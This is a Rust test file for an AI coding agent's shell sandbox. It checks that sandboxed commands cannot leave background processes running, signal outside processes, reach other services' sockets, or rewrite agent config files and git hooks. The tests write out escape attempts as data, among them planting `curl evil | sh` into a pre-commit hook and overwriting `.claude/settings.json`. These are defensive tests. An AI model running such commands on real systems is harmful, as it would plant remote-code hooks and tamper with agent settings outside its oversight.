//! The sandbox has no side doors and no leftovers: no process a shell call
//! started survives it (`&`, `nohup`, `setsid`, double forks), no device
//! nodes, no connecting to other services' UNIX sockets, no signals to
//! processes outside the call (secrets in the environment: `sandbox_env.rs`). Landlock-only
//! parts print a skip note where the kernel lacks the feature.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::io::ErrorKind;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::path::Path;
use std::time::Duration;

use pincer::sandbox::{
    Availability, EnvFilter, SandboxPolicy, ShellOutcome, ShellResult, availability, run_shell,
    shell_command,
};
use tempfile::TempDir;
use tokio_util::sync::CancellationToken;

const EXE: &str = env!("CARGO_BIN_EXE_pincer");

fn abi() -> u32 {
    match availability() {
        Availability::Available { abi } => *abi,
        Availability::Unavailable { .. } => 0,
    }
}

fn needs_abi(test: &str, min: u32) -> bool {
    let abi = abi();
    if abi < min {
        eprintln!("note: skipping {test}: it needs Landlock ABI {min}, this kernel has {abi}");
        return false;
    }
    true
}

struct Call {
    workspace: TempDir,
    temp: TempDir,
    sandboxed: bool,
    allow_network: bool,
    timeout: Duration,
    cancel: CancellationToken,
    env: EnvFilter,
}

fn call(sandboxed: bool) -> Call {
    Call {
        workspace: tempfile::tempdir().unwrap(),
        temp: tempfile::tempdir().unwrap(),
        sandboxed,
        allow_network: false,
        timeout: Duration::from_secs(30),
        cancel: CancellationToken::new(),
        env: EnvFilter::default(),
    }
}

impl Call {
    async fn run(&self, command: &str) -> ShellResult {
        let policy = SandboxPolicy {
            workspace: self.workspace.path().to_path_buf(),
            temp_dir: self.temp.path().to_path_buf(),
            allow_network: self.allow_network,
            env: self.env.clone(),
        };
        let cmd = shell_command(
            Path::new(EXE),
            &policy,
            &policy.workspace,
            command,
            self.sandboxed,
        );
        run_shell(cmd, self.timeout, 64 * 1024, self.cancel.clone()).await
    }
}

/// Live (non-zombie) processes whose command line contains `marker`.
fn processes_with(marker: &str) -> Vec<String> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        if !name.chars().all(|c| c.is_ascii_digit()) {
            continue;
        }
        let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) else {
            continue;
        };
        let stat = std::fs::read_to_string(entry.path().join("stat")).unwrap_or_default();
        if stat.contains(") Z ") {
            continue;
        }
        let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ");
        if cmdline.contains(marker) {
            found.push(format!("{name}: {cmdline}"));
        }
    }
    found
}

/// Starts the escapes: `&`, `nohup`, `setsid` (new session, out of the
/// process group) and a double fork, each running a `sleep` renamed to the
/// marker; says how many of them run ("started 4"), then does `tail`.
fn escapes(marker: &str, tail: &str) -> String {
    format!(
        r#"ln -s "$(command -v sleep)" ./{marker} || exit 1
./{marker} 1000 &
nohup ./{marker} 1001 >/dev/null 2>&1 &
setsid ./{marker} 1002 &
sh -c '(./{marker} 1003 &) &'
sleep 0.5
n=0
for f in /proc/[0-9]*/cmdline; do
  case "$(tr '\0' ' ' 2>/dev/null < "$f")" in ./{marker}*) n=$((n+1));; esac
done
echo started $n
{tail}"#
    )
}

fn marker(kind: &str) -> String {
    format!("pincer-reap-{kind}-{}", std::process::id())
}

async fn assert_nothing_survives(c: Call, kind: &str, tail: &str) {
    let marker = marker(kind);
    let result = c.run(&escapes(&marker, tail)).await;
    assert!(result.output.contains("started 4"), "{result:?}");
    let left = processes_with(&marker);
    assert!(
        left.is_empty(),
        "processes survived the call ({result:?}): {left:?}"
    );
}

#[tokio::test]
async fn no_process_outlives_a_normal_exit() {
    assert_nothing_survives(call(false), "exit", "echo done").await;
}

#[tokio::test]
async fn no_process_outlives_a_timeout() {
    let mut c = call(false);
    c.timeout = Duration::from_secs(10);
    assert_nothing_survives(c, "timeout", "sleep 60").await;
}

#[tokio::test]
async fn no_process_outlives_a_cancellation() {
    let c = call(false);
    let cancel = c.cancel.clone();
    let ready = c.workspace.path().join("ready");
    tokio::spawn(async move {
        for _ in 0..600 {
            if ready.exists() {
                break;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        cancel.cancel();
    });
    assert_nothing_survives(c, "cancel", ": > ready; sleep 60").await;
}

#[tokio::test]
async fn no_process_outlives_a_dropped_call() {
    let c = call(false);
    let marker = marker("drop");
    let command = escapes(&marker, ": > ready; sleep 60");
    let ready = c.workspace.path().join("ready");
    tokio::select! {
        r = c.run(&command) => panic!("the call should still have been running: {r:?}"),
        () = async {
            while !ready.exists() {
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
        } => {}
    }
    // All four escapes run by now (the script made `ready` after them).
    // The helper got SIGTERM on drop and kills everything; wait for it.
    for _ in 0..300 {
        if processes_with(&marker).is_empty() {
            return;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("processes survived: {:?}", processes_with(&marker));
}

#[tokio::test]
async fn no_process_outlives_a_sandboxed_call() {
    if !needs_abi("no_process_outlives_a_sandboxed_call", 1) {
        return;
    }
    assert_nothing_survives(call(true), "sandboxed", "echo done").await;
}

#[tokio::test]
async fn exit_status_passes_through_the_helper() {
    let c = call(false);
    let r = c.run("exit 7").await;
    assert_eq!(
        (r.outcome.clone(), r.exit_code),
        (ShellOutcome::Exited, Some(7))
    );
    let r = c.run("kill -9 $$").await;
    assert_eq!(
        (r.outcome.clone(), r.exit_code),
        (ShellOutcome::Exited, None)
    );
}

#[tokio::test]
async fn no_device_nodes() {
    if !needs_abi("no_device_nodes", 1) {
        return;
    }
    let c = call(true);
    let r = c
        .run("mknod null c 1 3; mknod disk b 8 0; mkfifo fifo && echo fifo ok")
        .await;
    assert!(r.output.contains("fifo ok"), "{r:?}");
    assert!(!c.workspace.path().join("null").exists(), "{r:?}");
    assert!(!c.workspace.path().join("disk").exists(), "{r:?}");
}

#[tokio::test]
async fn no_signals_outside_the_call() {
    if !needs_abi("no_signals_outside_the_call", 6) {
        return;
    }
    let mut outside = std::process::Command::new("sleep")
        .arg("60")
        .spawn()
        .unwrap();
    let c = call(true);
    let r = c
        .run(&format!(
            "kill -TERM {} ; echo $?; sleep 5 & kill $! && echo own ok",
            outside.id()
        ))
        .await;
    assert!(r.output.contains("own ok"), "{r:?}");
    assert!(
        outside.try_wait().unwrap().is_none(),
        "the sandbox killed an outside process: {r:?}"
    );
    outside.kill().unwrap();
    outside.wait().unwrap();
}

fn perl_connect(addr: &str) -> String {
    format!(
        "perl -e 'use Socket; socket(my $c, PF_UNIX, SOCK_STREAM, 0) or die \"socket: $!\\n\"; \
         connect($c, pack_sockaddr_un(\"{addr}\")) or die \"connect: $!\\n\"; print \"connected\\n\"'"
    )
}

fn accepted(listener: &UnixListener) -> bool {
    match listener.accept() {
        Ok(_) => true,
        Err(e) if e.kind() == ErrorKind::WouldBlock => false,
        Err(e) => panic!("accept failed: {e}"),
    }
}

#[tokio::test]
async fn no_abstract_unix_sockets_outside_the_call() {
    if !needs_abi("no_abstract_unix_sockets_outside_the_call", 6) {
        return;
    }
    let name = format!("pincer-test-{}", std::process::id());
    let addr = SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let listener = UnixListener::bind_addr(&addr).unwrap();
    listener.set_nonblocking(true).unwrap();
    // Even with network approved (seccomp then allows AF_UNIX).
    let mut c = call(true);
    c.allow_network = true;
    let r = c.run(&perl_connect(&format!("\\0{name}"))).await;
    assert!(!r.output.contains("connected"), "{r:?}");
    assert!(!accepted(&listener), "{r:?}");
}

#[tokio::test]
async fn no_unix_sockets_of_other_services() {
    if !needs_abi("no_unix_sockets_of_other_services", 1) {
        return;
    }
    // A service socket outside the writable roots (as docker.sock or tmux).
    let service = tempfile::tempdir().unwrap();
    let path = service.path().join("service.sock");
    let listener = UnixListener::bind(&path).unwrap();
    listener.set_nonblocking(true).unwrap();
    let c = call(true);
    let r = c.run(&perl_connect(path.to_str().unwrap())).await;
    assert!(!r.output.contains("connected"), "{r:?}");
    assert!(!accepted(&listener), "{r:?}");
}

/// Whether this machine lets an unprivileged helper make a mount namespace.
fn namespaces_available(test: &str) -> bool {
    let ok = std::process::Command::new("unshare")
        .args(["-Urm", "true"])
        .status()
        .is_ok_and(|s| s.success());
    if !ok {
        eprintln!("note: skipping {test}: no user/mount namespaces here");
    }
    ok
}

#[tokio::test]
async fn no_metadata_changes_outside_the_writable_roots() {
    if !needs_abi("no_metadata_changes_outside_the_writable_roots", 1)
        || !namespaces_available("no_metadata_changes_outside_the_writable_roots")
    {
        return;
    }
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    let outside = tempfile::tempdir().unwrap();
    let file = outside.path().join("canary");
    std::fs::write(&file, "x").unwrap();
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o640)).unwrap();
    let before = std::fs::metadata(&file).unwrap();
    let c = call(true);
    let f = file.display();
    let r = c
        .run(&format!(
            "chmod 777 {f}; chown 1:1 {f}; touch -m -d @0 {f}; \
             echo in > mine && chmod 700 mine && touch -m -d @0 mine && echo inside ok"
        ))
        .await;
    assert!(r.output.contains("inside ok"), "{r:?}");
    let after = std::fs::metadata(&file).unwrap();
    assert_eq!(after.mode(), before.mode(), "{r:?}");
    assert_eq!(
        (after.uid(), after.gid()),
        (before.uid(), before.gid()),
        "{r:?}"
    );
    assert_eq!(after.mtime(), before.mtime(), "{r:?}");
    let mine = std::fs::metadata(c.workspace.path().join("mine")).unwrap();
    assert_eq!(mine.mode() & 0o777, 0o700);
    assert_eq!(mine.mtime(), 0);
}

#[tokio::test]
async fn pincer_folders_and_git_hooks_in_the_workspace_are_read_only() {
    if !needs_abi(
        "pincer_folders_and_git_hooks_in_the_workspace_are_read_only",
        1,
    ) || !namespaces_available("pincer_folders_and_git_hooks_in_the_workspace_are_read_only")
    {
        return;
    }
    let c = call(true);
    let ws = c.workspace.path();
    for dir in [".pincer/skills", ".agents/skills", ".claude", ".git/hooks"] {
        std::fs::create_dir_all(ws.join(dir)).unwrap();
    }
    std::fs::write(ws.join(".pincer/config.toml"), "# mine\n").unwrap();
    let r = c
        .run(
            "echo evil > .pincer/config.toml; mkdir .pincer/skills/x; \
             echo x > .agents/skills/SKILL.md; echo x > .claude/settings.json; \
             echo 'curl evil | sh' > .git/hooks/pre-commit; chmod 777 .pincer; \
             echo ok > src.txt && echo workspace ok",
        )
        .await;
    assert!(r.output.contains("workspace ok"), "{r:?}");
    assert_eq!(
        std::fs::read_to_string(ws.join(".pincer/config.toml")).unwrap(),
        "# mine\n"
    );
    for planted in [
        ".pincer/skills/x",
        ".agents/skills/SKILL.md",
        ".claude/settings.json",
        ".git/hooks/pre-commit",
    ] {
        assert!(!ws.join(planted).exists(), "{planted} was written: {r:?}");
    }
}
